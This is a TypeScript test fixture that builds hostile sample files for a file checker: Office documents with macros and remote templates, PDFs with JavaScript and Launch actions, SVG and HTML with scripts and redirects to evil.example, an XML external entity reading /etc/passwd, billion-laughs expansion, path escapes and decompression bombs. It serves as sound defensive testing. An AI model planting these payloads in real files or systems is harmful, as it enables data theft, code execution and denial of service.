import { deflateSync, gzipSync } from 'node:zlib';
import type { CheckReasonCode } from '../../../src/contracts/files/reasons.ts';
import type { HostileFile } from './file.ts';
import { makeZip } from './zip-maker.ts';

const MEBIBYTE = 1024 * 1024;
const DOCX_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const contentTypes = (main: string): string =>
  `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="${main}.main+xml"/></Types>`;

/** A document of one part, and what is added to it. */
function docx(added: Readonly<Record<string, string | Buffer>> = {}, main = DOCX_TYPE): Buffer {
  const parts = { '[Content_Types].xml': contentTypes(main), 'word/document.xml': '<w:document/>', ...added };
  return makeZip(Object.entries(parts).map(([name, data]) => ({ name, data })));
}

function office(what: string, reasons: readonly CheckReasonCode[], content: () => Buffer): HostileFile {
  const fileName = /called (\S+)$/.exec(what)?.[1] ?? 'a.docx';
  return { what: `office: ${what}`, fileName, content, reasons };
}

const BILLION_LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY lol${index + 1} "${`&lol${index === 0 ? '' : index};`.repeat(10)}">`,
).join('')}]><lolz>&lol9;</lolz>`;

function offices(): HostileFile[] {
  const compound = (text: string): Buffer =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1016), Buffer.from(text, 'utf16le'), Buffer.alloc(2048)]);
  const rels = (target: string, type = 'attachedTemplate'): string =>
    `<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
  return [
    office('a plain document', [], () => docx()),
    office('macros', ['office_macros'], () => docx({ 'word/vbaProject.bin': Buffer.alloc(100, 1) })),
    office('macros under another case', ['office_macros'], () => docx({ 'word/VBAPROJECT.BIN': 'x' })),
    office('a macro type without macros', ['office_macros'], () => docx({}, 'application/vnd.ms-word.document.macroEnabled')),
    office('macro sheets', ['office_macros'], () => docx({ 'xl/macrosheets/sheet1.xml': '<x/>' })),
    office('a macro document as docx', ['extension_mismatch'], () =>
      docx({ 'word/vbaProject.bin': 'x' }, 'application/vnd.ms-word.document.macroEnabled'),
    ),
    office('a control', ['office_active_content'], () => docx({ 'word/activeX/activeX1.bin': 'x' })),
    office('a template from elsewhere', ['office_active_content'], () =>
      docx({ 'word/_rels/settings.xml.rels': rels('http://evil.example/t.dotm') }),
    ),
    office('an object from elsewhere', ['office_active_content'], () =>
      docx({ 'word/_rels/document.xml.rels': rels('http://evil.example/x', 'oleObject') }),
    ),
    office('a link to elsewhere, which is fine', [], () =>
      docx({ 'word/_rels/document.xml.rels': rels('http://example.com/', 'hyperlink') }),
    ),
    office('entities that multiply', ['xml_entities'], () => docx({ 'word/styles.xml': BILLION_LAUGHS })),
    office('a part of 64 MiB', ['archive_bomb'], () => docx({ 'word/media/zeros.xml': Buffer.alloc(64 * MEBIBYTE) })),
    office('a part that escapes', ['archive_path_escape'], () => docx({ '../../evil.xml': 'x' })),
    office('a zip that is no document', ['extension_mismatch'], () => makeZip([{ name: 'a.txt', data: 'x' }])),
    office('a document as a spreadsheet called a.xlsx', ['extension_mismatch'], () => docx()),
    office('an old document with macros called a.doc', ['office_macros'], () => compound('_VBA_PROJECT')),
    office('an old document with a folder of macros called a.xls', ['office_macros'], () => compound('Macros')),
    office('an encrypted document called a.docx', ['office_encrypted'], () => compound('EncryptedPackage')),
    office('an OpenDocument with scripts called a.odt', ['office_macros'], () =>
      makeZip([
        { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', method: 0 },
        { name: 'Basic/Standard/script.xml', data: '<x/>' },
      ]),
    ),
    office('an OpenDocument called a.odt', [], () =>
      makeZip([{ name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', method: 0 }]),
    ),
    office('a program as a document called a.docx', ['executable'], () =>
      makeZip([{ name: 'META-INF/MANIFEST.MF', data: 'Main-Class: Evil' }]),
    ),
  ];
}

const PDF_END = '\nxref\n0 1\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n';
const pdf = (body: string | Buffer): Buffer =>
  Buffer.concat([Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n'), Buffer.from(body), Buffer.from(PDF_END)]);
const objectStream = (text: string): Buffer => {
  const packed = deflateSync(text);
  return Buffer.concat([
    Buffer.from(`5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`),
    packed,
    Buffer.from('\nendstream endobj'),
  ]);
};

function pdfs(): HostileFile[] {
  const of = (what: string, reasons: readonly CheckReasonCode[], content: () => Buffer): HostileFile => ({
    what: `pdf: ${what}`,
    fileName: 'a.pdf',
    content,
    reasons,
  });
  return [
    of('a plain one', [], () => pdf('2 0 obj<</Length 3>>stream\nabc\nendstream endobj')),
    of('JavaScript', ['pdf_javascript'], () => pdf('2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj')),
    of('JavaScript in escaped letters', ['pdf_javascript'], () => pdf('2 0 obj<</S/J#61va#53cript/J#53 (app.alert(1))>>endobj')),
    of('JavaScript by reference', ['pdf_javascript'], () => pdf('2 0 obj<</S/Foo/JS 7 0 R>>endobj')),
    of('JavaScript in packed objects', ['pdf_javascript'], () => pdf(objectStream('7 0 <</S/JavaScript/JS(x)>>'))),
    of('a script hidden in a stream that is none', ['pdf_javascript'], () =>
      pdf('% stream\n2 0 obj<</S/JavaScript/JS(x)>>endobj\n% endstream'),
    ),
    of('a program started', ['pdf_launch'], () => pdf('2 0 obj<</S/Launch/F(cmd.exe)>>endobj')),
    of('active media', ['pdf_launch'], () => pdf('2 0 obj<</Type/Annot/Subtype/RichMedia>>endobj')),
    of('encrypted', ['pdf_encrypted'], () => pdf('trailer<</Encrypt 5 0 R>>')),
    of('packed objects that are a bomb', ['archive_bomb'], () => pdf(objectStream('x'.repeat(64 * MEBIBYTE)))),
    of('packed objects that can not be unpacked', [], () =>
      pdf('5 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\nnonsense\nendstream endobj'),
    ),
    of('a stream without end', [], () => pdf('5 0 obj<</Type/ObjStm>>stream\nnonsense')),
    of('ten thousand streams', [], () => pdf('5 0 obj<</Length 1>>stream\nx\nendstream endobj\n'.repeat(10_000))),
    of('deeply nested arrays', [], () => pdf('['.repeat(100_000))),
    of('cut off', ['truncated'], () => pdf('2 0 obj<<>>endobj').subarray(0, 60)),
    of('a zip at its end', ['polyglot'], () => Buffer.concat([pdf(''), makeZip([{ name: 'a', data: 'x' }])])),
    of('text that says it is', ['extension_mismatch'], () => Buffer.from('this is no PDF')),
    of('names of a megabyte of escapes', [], () => pdf('/#41'.repeat(300_000))),
  ];
}

export function hostileDocuments(): readonly HostileFile[] {
  return [...offices(), ...pdfs(), ...markup(), ...packedMarkup()];
}

function markup(): HostileFile[] {
  const svg = (what: string, inner: string, reasons: readonly CheckReasonCode[] = ['svg_script']): HostileFile => ({
    what: `svg: ${what}`,
    fileName: 'a.svg',
    content: () =>
      Buffer.from(
        inner.startsWith('<') && /<(?:svg|\?xml|!DOCTYPE|x:svg)/.test(inner)
          ? inner
          : `<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`,
      ),
    reasons,
  });
  const html = (what: string, body: string, reasons: readonly CheckReasonCode[] = ['html_script']): HostileFile => ({
    what: `html: ${what}`,
    fileName: 'a.html',
    content: () => Buffer.from(`<!DOCTYPE html><html><body>${body}</body></html>`),
    reasons,
  });
  return [
    svg('a plain one', '<circle r="5"/>', []),
    svg('a script', '<script>alert(1)</script>'),
    svg('a script in capitals', '<SCRIPT>alert(1)</SCRIPT>'),
    svg('a script with a prefix', '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>'),
    svg('a handler', '<circle onload="alert(1)"/>'),
    svg('a handler after a slash', '<circle/onload=alert(1)>'),
    svg('a handler on a line of its own', '<circle\nr="5"\n\tonmouseover\n=\n"alert(1)"/>'),
    svg('a script address', '<a href="javascript:alert(1)">x</a>'),
    svg('a script address in references', '<a href="java&#x73;cript&#58;alert(1)">x</a>'),
    svg('a script address with a tab', '<a href="java&#9;script:alert(1)">x</a>'),
    svg('a page inside', '<foreignObject><iframe src="x"/></foreignObject>'),
    svg('a page as data', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'),
    svg('an animation that sets a handler', '<set attributeName="onmouseover" to="alert(1)"/>'),
    svg('an animation that sets an address', '<animate attributeName="href" values="javascript:alert(1)"/>'),
    svg('something used from elsewhere', '<use href="https://evil.example/x.svg#a"/>'),
    svg('a style sheet', '<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
    svg('entities', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "y">]><svg>&x;</svg>`, ['xml_entities']),
    svg('an outside entity', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`, [
      'xml_entities',
    ]),
    svg('a script after 300 kB of padding', `<g>${' '.repeat(300_000)}</g><script>alert(1)</script>`),
    svg('a script cut by a piece of the stream', `<!--${'x'.repeat(65_536 - 60)}--><script>alert(1)</script>`),
    { what: 'svg: in UTF-16', fileName: 'a.svg', content: () => utf16('<svg><script>alert(1)</script></svg>'), reasons: ['svg_script'] },
    {
      what: 'svg: as a picture of another type',
      fileName: 'a.png',
      content: () => Buffer.from('<svg><script/></svg>'),
      reasons: ['extension_mismatch'],
    },
    { what: 'svg: as a table', fileName: 'a.csv', content: () => Buffer.from('<svg onload="alert(1)"/>'), reasons: ['extension_mismatch'] },
    html('a plain one', '<p>hello</p>', []),
    html('a script', '<script src="https://evil.example/x.js"></script>'),
    html('a handler', '<img src=x onerror=alert(1)>'),
    html('a frame', '<iframe src="https://evil.example/"></iframe>'),
    html('a redirection', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    html('a base', '<base href="https://evil.example/">'),
    {
      what: 'html: as text',
      fileName: 'a.txt',
      content: () => Buffer.from('<!doctype html><script>alert(1)</script>'),
      reasons: ['extension_mismatch'],
    },
    {
      what: 'html: as a picture',
      fileName: 'a.jpg',
      content: () => Buffer.from('<html><script>alert(1)</script></html>'),
      reasons: ['extension_mismatch'],
    },
    { what: 'xml: entities that multiply', fileName: 'a.xml', content: () => Buffer.from(BILLION_LAUGHS), reasons: ['xml_entities'] },
    {
      what: 'xml: one entity of a megabyte, used often',
      fileName: 'a.xml',
      content: () => Buffer.from(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${'a'.repeat(MEBIBYTE)}">]><x>${'&a;'.repeat(10_000)}</x>`),
      reasons: ['xml_entities'],
    },
    {
      what: 'xml: an outside document type',
      fileName: 'a.xml',
      content: () => Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><x/>'),
      reasons: ['xml_entities'],
    },
    {
      what: 'xml: a hundred thousand deep',
      fileName: 'a.xml',
      content: () => Buffer.from(`<?xml version="1.0"?>${'<a>'.repeat(100_000)}`),
      reasons: [],
    },
    {
      what: 'xml: an attribute of ten megabytes',
      fileName: 'a.xml',
      content: () => Buffer.from(`<?xml version="1.0"?><a b="${'x'.repeat(10 * MEBIBYTE)}"/>`),
      reasons: [],
    },
    {
      what: 'xml: ten megabytes of opening brackets',
      fileName: 'a.xml',
      content: () => Buffer.from(`<?xml version="1.0"?>${'<'.repeat(10 * MEBIBYTE)}`),
      reasons: [],
    },
  ];
}

function packedMarkup(): HostileFile[] {
  return [
    {
      what: 'svgz with a bomb',
      fileName: 'a.svgz',
      content: () => gzipSync(`<svg>${' '.repeat(32 * MEBIBYTE)}</svg>`),
      reasons: ['archive_bomb'],
    },
  ];
}

function utf16(text: string): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
}
